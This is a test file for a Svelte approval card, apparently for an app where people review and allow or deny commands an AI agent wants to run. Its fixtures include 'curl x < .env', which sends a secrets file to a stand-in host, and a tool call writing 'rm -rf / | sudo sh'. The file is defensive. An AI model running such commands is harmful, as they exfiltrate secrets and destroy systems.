import { fireEvent, render, screen, within } from "@testing-library/svelte";
import { describe, expect, it, vi } from "vitest";
import { Announcer } from "$lib/announcer.svelte";
import type { Backend } from "$lib/backend/backend";
import type { CommandAnalysis, InboxItemDetail, InboxItemView } from "$lib/backend/types";
import { Keymap } from "$lib/keyboard/keymap.svelte";
import type { Page } from "$lib/page";
import { Clock } from "$lib/time/clock.svelte";
// The card fetches them when they are asked for; here they are there before.
import "./AlwaysDialog.svelte";
import "./EditDialog.svelte";
import "./LongerDialog.svelte";
import { keysSettleTime } from "./approval.svelte";
import CardOnPage from "./CardOnPage.test.svelte";
import { makeDetail, makeItem } from "./test-items";
import { until } from "../../../tests/until";

type Shown = {
  item?: Partial<InboxItemView>;
  detail?: Partial<InboxItemDetail>;
  small?: boolean;
  session?: { title: string; href: string };
};

/** Shows the card with its first moment over. */
async function show({ item: fields, detail, ...card }: Shown = {}) {
  let time = 1_000_000;
  const item = makeItem(fields);
  const decide = vi.fn();
  const page = {
    backend: {
      inboxItem: async () => makeDetail(item, detail),
      inboxDecide: decide,
    } as unknown as Backend,
    keymap: new Keymap(false),
    announcer: new Announcer(),
    clock: new Clock(() => time),
  } as unknown as Page;
  const view = render(CardOnPage, { page, item, ...card });
  await until(() => expect(view.container.querySelector("footer")).not.toBeNull());
  time += keysSettleTime;
  return { ...view, decide, text: () => view.container.textContent ?? "" };
}

const press = (name: RegExp) => fireEvent.click(screen.getByRole("button", { name }));
const factOf = (label: string, within: Element) =>
  [...within.querySelectorAll("dt")]
    .find(({ textContent }) => textContent === label)
    ?.nextElementSibling?.textContent?.trim();

/** Sends a secret away, and says each. */
const sends: CommandAnalysis = {
  verdict: "deny",
  dangerous: true,
  findings: [
    { verdict: "deny", code: "x", span: { start: 0, end: 14 }, text: "It sends a secret." },
  ],
  effects: [
    {
      kind: "network",
      target: "x",
      zone: "elsewhere",
      secret: false,
      span: { start: 0, end: 4 },
      text: "connects to x",
    },
  ],
  commands: [],
  cut: false,
};
const governed: Shown = {
  item: { subject: "npm run build", offered: ["allowOnce", "allowAlways", "deny"] },
  detail: { governed: true, analysis: { ...sends, dangerous: false } },
};

describe("the card", () => {
  it("shows what a warning puts between backticks as code, and never as markup", async () => {
    const { container } = await show({
      detail: { warnings: ["look for `<b>rm</b>` in it"] },
    });
    const warning = container.querySelector(".warning");
    expect(warning?.querySelector("code")?.textContent).toBe("<b>rm</b>");
    expect(warning?.querySelector("b")).toBeNull();
  });

  it("says nothing of a single command that the command says itself", async () => {
    const { text } = await show({ item: { subject: "npm test" } });
    expect(text()).not.toContain("Runs npm");
  });

  it("takes nothing that it did not recognise for safe", async () => {
    const analysis = { ...sends, dangerous: false, findings: [], effects: [] };
    const { text } = await show({ detail: { analysis } });
    expect(text()).toContain("That is no proof that it is safe.");
  });

  it("names no policy for what this app judges itself", async () => {
    const { text } = await show({ detail: { analysis: sends } });
    expect(text()).toContain("Look twice. Read the marked parts before you allow it.");
    expect(text()).not.toContain("policy");
  });

  it("gives no advice on allowing what is decided already", async () => {
    const phase = { kind: "gone", at: 1 } as const;
    const { text } = await show({ item: { phase, offered: [] }, detail: { analysis: sends } });
    expect(text()).toContain("Look twice.");
    expect(text()).not.toContain("before you allow it");
  });

  it("numbers each sentence in the text as gravely as it is, and not in what is copied", async () => {
    const item = { subject: "curl x < .env && ls" };
    const { container } = await show({ item, detail: { analysis: sends } });
    const notes = [...container.querySelectorAll("pre [data-note]")];
    expect(
      notes.map((note) => [note.getAttribute("data-note"), note.classList.contains("grave")]),
    ).toEqual([
      ["2", false],
      ["1", true],
    ]);
    expect(container.querySelector("pre")?.textContent).toBe(item.subject);
  });

  it("names the variables that a call sets", async () => {
    const facts = [{ label: "environment" as const, value: "CI, NODE_OPTIONS" }];
    const { container } = await show({ detail: { facts } });
    expect(factOf("Sets", container)).toBe("CI, NODE_OPTIONS");
  });

  it("says how many have allowed what takes several, and what is still missing", async () => {
    const said = async (allowed: number, names: string[], ours: boolean, needed = 2) => {
      const item = { people: { needed, allowed, names, ours } };
      const { container, unmount } = await show({ item });
      const words = container.querySelector(".people")?.textContent;
      unmount();
      return words;
    };
    expect(await said(0, [], false)).toBe("2 people have to allow this.");
    expect(await said(1, ["ada"], false)).toBe(
      "1 of 2 have allowed it, by ada. With yours it runs.",
    );
    expect(await said(1, [], true)).toBe(
      "1 of 2 have allowed it, by you. It waits for another person.",
    );
    expect(await said(1, ["ada"], true)).toContain("by ada. It waits");
    expect(await said(1, [], false, 3)).toBe("1 of 3 have allowed it.");
  });

  it("names who asks without a key, which stands among the parts", async () => {
    const key = "agent:main:0";
    const { container, text } = await show({ item: { session: key } });
    expect(factOf("Who", container)).not.toContain(key);
    await press(/Explain/);
    expect(factOf("Session", container)).toBe(key);
    expect(text()).toContain("agent main");
  });

  it("shows the whole path of the program, and the word where that has another name", async () => {
    const item = { subject: "crontab -l" };
    const { container } = await show({ item, detail: { resolvedPath: "/usr/bin/dash" } });
    expect(factOf("Program", container)).toBe("crontab runs /usr/bin/dash");
  });

  it("leaves out in the small window what a person expects, and nothing else", async () => {
    const item = { subject: "npm test" };
    const usual = await show({ item, detail: { resolvedPath: "/usr/bin/npm" }, small: true });
    expect(factOf("Program", usual.container)).toBeUndefined();
    expect(factOf("Where", usual.container), "it stands above the card").toBeUndefined();
    usual.unmount();
    const odd = await show({ item, detail: { resolvedPath: "/tmp/npm", node: "n" }, small: true });
    expect(factOf("Program", odd.container)).toBe("/tmp/npm");
    expect(factOf("Where", odd.container)).toContain("on node n");
  });

  it("says in its footer that there is more behind it, while there is", async () => {
    const { container, text } = await show();
    const footer = container.querySelector("footer");
    const last = footer?.previousElementSibling;
    if (!footer || !last) throw new Error("no footer");
    const at = (top: number, bottom: number) => () => ({ top, bottom }) as DOMRect;
    footer.getBoundingClientRect = at(300, 380);
    last.getBoundingClientRect = at(200, 340);
    await fireEvent.scroll(window);
    expect(text()).toContain("More below");
    last.getBoundingClientRect = at(100, 290);
    await fireEvent.scroll(window);
    expect(text()).not.toContain("More below");
  });

  it("says which question has no answer yet", async () => {
    const question = (id: string, text: string) => {
      const options = [`${id}1`, `${id}2`].map((label) => {
        return { value: `${id}:${label}`, label, description: null };
      });
      return { id, text, options, freeText: false, multiSelect: false };
    };
    const questions = [question("p", "Where?"), question("q", "When?")];
    const item = { kind: "question", offered: ["approve", "reject"] } as const;
    const { text } = await show({
      item: { ...item, offered: [...item.offered] },
      detail: { questions },
    });
    expect(text()).toContain("2 of 2 questions are unanswered.");
    await fireEvent.click(screen.getByLabelText("p2"));
    expect(text()).toContain("1 of 2 questions is unanswered: “When?”");
    await fireEvent.click(screen.getByLabelText("q1"));
    expect(text()).not.toContain("unanswered");
  });
});

describe("a tool's call", () => {
  const subject = "write /etc/motd\ncontent:\n  rm -rf / | sudo sh\n  ⟨U+202E⟩";
  const call = { item: { subject, tool: "write", dangerous: true } };

  it("is shown whole and not read as a command", async () => {
    const { container, text } = await show(call);
    expect(container.querySelector("pre")?.textContent).toBe(subject);
    expect(container.querySelector("pre .danger, pre .command")).toBeNull();
    expect(container.querySelector("pre .escape")?.textContent).toBe("⟨U+202E⟩");
    expect(text()).not.toContain("Runs ");
  });

  it("that is dangerous says so", async () => {
    const { text } = await show(call);
    expect(text()).toContain("Look twice. Read all of it before you allow it.");
  });
});

describe("the second step of Allow always", () => {
  const always = (serverVersion: string | null, small = false) =>
    show({
      item: { subject: "npm test", session: "k", offered: ["allowOnce", "allowAlways", "deny"] },
      detail: { analysis: sends, serverVersion },
      session: { title: "Fix the upload", href: "#/x" },
      small,
    });

  it("keeps what the card said: the marks, the warning, the session", async () => {
    await always("2026.9.6");
    await press(/Allow always/);
    const dialog = await screen.findByRole("dialog");
    expect(dialog.querySelector("[data-note]")).not.toBeNull();
    expect(dialog.textContent).toContain("Look twice.");
    expect(dialog.textContent).toContain("It sends a secret.");
    expect(factOf("Who", dialog)).toContain("Fix the upload");
  });

  it.each([
    ["2026.9.6", /this exact command in this folder/, /any arguments/],
    ["2026.4.25", /any npm command is then allowed/, /exact command/],
    [null, /exact command in this folder.*any arguments/, /any npm command/],
  ] as const)("says what the rule covers on version %s", async (version, said, unsaid) => {
    await always(version);
    await press(/Allow always/);
    const dialog = await screen.findByRole("dialog");
    expect(dialog.textContent).toMatch(said);
    expect(dialog.textContent).not.toMatch(unsaid);
  });

  it("says it in the small window too, which knows no gateway", async () => {
    await always("2026.4.25", true);
    await press(/Allow always/);
    const dialog = await screen.findByRole("dialog");
    expect(dialog.textContent).toMatch(/any npm command is then allowed/);
  });
});

describe("what is asked of a gateway that takes terms", () => {
  it("names on the button how long it is allowed, and asks for that before all else", async () => {
    await show(governed);
    await press(/Allow longer/);
    const dialog = await screen.findByRole("dialog");
    const label = () => dialog.querySelector("[data-decision]")?.textContent?.trim();
    expect(label()).toBe("Allow for this session");
    await fireEvent.click(within(dialog).getByLabelText("For a time"));
    expect(label()).toBe("Allow for 1 hour");
    await fireEvent.click(within(dialog).getByLabelText("Always here"));
    await fireEvent.click(within(dialog).getByLabelText("A week from now"));
    expect(label()).toBe("Allow here for a week");
    const legends = [...dialog.querySelectorAll("legend")].map((each) => each.textContent);
    expect(legends).toEqual(["How long it holds", "Until", "What it covers"]);
    expect(dialog.textContent, "what the numbers in the text are about").toContain(
      "Connects to x.",
    );
  });

  it("keeps the command that was asked for beside the one in its place, which is asked about", async () => {
    await show(governed);
    await press(/Edit the command/);
    const dialog = await screen.findByRole("dialog");
    await fireEvent.input(within(dialog).getByRole("textbox"), { target: { value: "npm ci" } });
    expect(dialog.querySelector("pre")?.textContent).toBe("npm run build");
    expect(dialog.textContent).toContain("you are asked about it before it runs");
    expect(dialog.querySelector("[data-decision]")?.textContent).toContain("Replace the command");
  });
});
